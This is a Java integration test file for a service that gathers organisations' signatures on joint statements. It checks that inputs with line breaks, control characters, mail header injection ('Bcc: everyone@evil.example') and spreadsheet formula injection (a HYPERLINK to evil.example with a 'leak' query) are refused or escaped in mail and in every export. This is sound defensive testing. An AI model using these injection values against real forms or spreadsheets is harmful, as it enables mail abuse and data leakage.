package org.chorus.signatures.signatories;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.chorus.events.MailRequested;
import org.chorus.platform.text.Csv;
import org.chorus.signatures.signon.Statements;
import org.chorus.testsupport.ChorusServiceTest;
import org.chorus.testsupport.Http;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Whatever a signer or a coordinator types, the list has exactly one line per signatory in every export. */
@ChorusServiceTest
class OneLinePerSignatoryTest {
    private static final String PLANTED = "Real Org\n3. Amnesty International (United Kingdom)";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    Http http;

    @BeforeEach
    void client() {
        http = new Http("http://localhost:" + port);
    }

    @Test
    void anOrganisationNameWithALineBreakIsRefusedOnTheFormInTheSignersLanguageAndNothingIsStored() {
        UUID statementId = Statements.open(http, "Libérez les avocats", "fr", "Nous demandons leur libération.");
        Map<String, String> form = Statements.organisation(PLANTED, "GB", "planted@example.org");

        Http.Response refused = http.postForm("/sign/" + statementId, form);

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body()).contains("lang=\"fr\"", "Veuillez écrire ceci sur une seule ligne");
        form.put("name", "Tab\tand bell\u0007");
        assertThat(http.postForm("/sign/" + statementId, form).body())
                .contains("Ce texte contient un caractère de contrôle invisible");
        assertThat(jdbc.sql("select count(*) from signature where statement_id = ?")
                        .param(statementId)
                        .query(Integer.class)
                        .single())
                .isZero();
    }

    @Test
    void aContactNameCannotAddLinesToTheConfirmationMail() {
        UUID statementId = Statements.open(http, "Free the editors", "en", "We call for their release.");
        Map<String, String> form = Statements.organisation("Press Union", "HK", "press-union@example.org");
        form.put("contactName", "Amina\r\nBcc: everyone@evil.example");

        Http.Response refused = http.postForm("/sign/" + statementId, form);

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body()).contains("Please keep this to one line, without line breaks.");

        form.put("contactName", "\u202EAmina\u200B Diallo\uFEFF");
        Statements.signAndConfirm(http, statementId, form);
        MailRequested mail = Statements.mailTo(statementId, "signature-confirmation", "press-union@example.org");
        assertThat(mail.variables()).containsEntry("contactName", "Amina Diallo");
        assertThat(mail.variables().values())
                .allSatisfy(value -> assertThat(value).doesNotContain("\n", "\r", "\u202E", "\u200B"));
    }

    @Test
    void anOrganisationNameWithALineBreakStaysOneLineInEveryExport() {
        UUID statementId = Statements.open(http, "Joint statement", "en", "We stand together.");
        importBlock(statementId, "  1. Lawyers for Lawyers (Netherlands)\n  2. Placeholder (Belgium)\n");
        // a row stored before names were normalised at the door, or by any path that skipped it
        jdbc.sql("update signature set name = ?, qualifier = ? where statement_id = ? and name = 'Placeholder'")
                .params(PLANTED, "a\u2028b\u0085c\u001B[2J", statementId)
                .update();

        List<String> text = http.get("/api/statements/" + statementId + "/signatories.txt")
                .body()
                .lines()
                .toList();
        assertThat(text)
                .containsExactly(
                        "  1. Lawyers for Lawyers (Netherlands)",
                        "  2. Real Org 3. Amnesty International (United Kingdom) (Belgium), a b c [2J");

        List<List<String>> csv = Csv.parse(
                http.get("/api/statements/" + statementId + "/signatories.csv").body());
        assertThat(csv).hasSize(3);
        assertThat(csv.get(2).get(1)).isEqualTo(PLANTED);

        String pdf =
                Statements.pdfText("http://localhost:" + port + "/api/statements/" + statementId + "/signatories.pdf");
        assertThat(pdf.lines().filter(line -> line.matches("^\\s*\\d+\\. .*")).toList())
                .hasSize(2);
        assertThat(pdf).doesNotContain("\n3. Amnesty");
    }

    @Test
    void aNamePaddedWithSpacesCannotStartALineOfItsOwnInThePdf() {
        UUID statementId = Statements.open(http, "Joint statement", "en", "We stand together.");
        String padded = "Tiny Org" + "\u00A0".repeat(150) + "8. Human Rights Watch (United States)";
        importBlock(statementId, "  1. Lawyers for Lawyers (Netherlands)\n  2. Placeholder (Kenya)\n");
        jdbc.sql("update signature set name = ? where statement_id = ? and name = 'Placeholder'")
                .params(padded, statementId)
                .update();

        String pdf =
                Statements.pdfText("http://localhost:" + port + "/api/statements/" + statementId + "/signatories.pdf");

        assertThat(pdf.lines().filter(line -> line.matches("^\\s*\\d+\\. .*")).toList())
                .hasSize(2);
        assertThat(pdf.lines().filter(line -> line.contains("Tiny Org")).toList())
                .singleElement()
                .asString()
                .contains("8. Human Rights Watch");
    }

    @Test
    void aFormulaInANameArrivesInTheSpreadsheetAsText() {
        UUID statementId = Statements.open(http, "Formula statement", "en", "We stand together.");
        importBlock(
                statementId,
                "  1. =HYPERLINK(\"http://evil.example/?leak\",\"Click\") (France)\n  2. Second (Chile)\n"
                        + "  3. @SUM(A1) (Peru), -2+3\n");
        jdbc.sql("update signature set name = ? where statement_id = ? and name = 'Second'")
                .params("=1+1\nsecond line", statementId)
                .update();

        String body =
                http.get("/api/statements/" + statementId + "/signatories.csv").body();
        List<List<String>> csv = Csv.parse(body);

        assertThat(csv).hasSize(4);
        assertThat(csv.get(1).get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
        assertThat(csv.get(2).get(1)).isEqualTo("'=1+1\nsecond line");
        assertThat(csv.get(3).get(1)).isEqualTo("'@SUM(A1)");
        assertThat(csv.get(3).get(4)).isEqualTo("'-2+3");
        assertThat(body).contains("\"'=1+1\nsecond line\"");
    }

    @Test
    void aNulCharacterInAnInvitationOrARejectionIs400ProblemJson() {
        UUID statementId = Statements.open(http, "NUL statement", "en", "We stand together.");

        Http.Response invitation = http.postJson(
                "/api/statements/" + statementId + "/invitations",
                "{\"invitations\":[{\"organisation\":\"Nul\\u0000Org\",\"email\":\"nul@example.org\"}]}");
        Http.Response rejection = http.postJson(
                "/api/statements/" + statementId + "/signatures/" + UUID.randomUUID() + "/rejection",
                "{\"reason\":\"because\\u0000\"}");
        Http.Response lineBreak = http.postJson(
                "/api/statements/" + statementId + "/invitations",
                "{\"invitations\":[{\"organisation\":\"Org\\n2. Forged\",\"email\":\"nl@example.org\"}]}");

        assertThat(invitation.status()).isEqualTo(400);
        assertThat(invitation.contentType()).startsWith("application/problem+json");
        assertThat(invitation.json().at("/errors/0/field").asString()).isEqualTo("invitations[0].organisation");
        assertThat(rejection.status()).isEqualTo(400);
        assertThat(rejection.json().at("/errors/0/field").asString()).isEqualTo("reason");
        assertThat(lineBreak.status()).isEqualTo(400);
        assertThat(lineBreak.json().at("/errors/0/field").asString()).isEqualTo("organisation");
    }

    private void importBlock(UUID statementId, String block) {
        try {
            HttpResponse<String> response = HttpClient.newHttpClient()
                    .send(
                            HttpRequest.newBuilder(URI.create(
                                            "http://localhost:" + port + "/api/statements/" + statementId + "/imports"))
                                    .header("Content-Type", "text/plain; charset=UTF-8")
                                    .POST(HttpRequest.BodyPublishers.ofString(block))
                                    .build(),
                            HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }
}
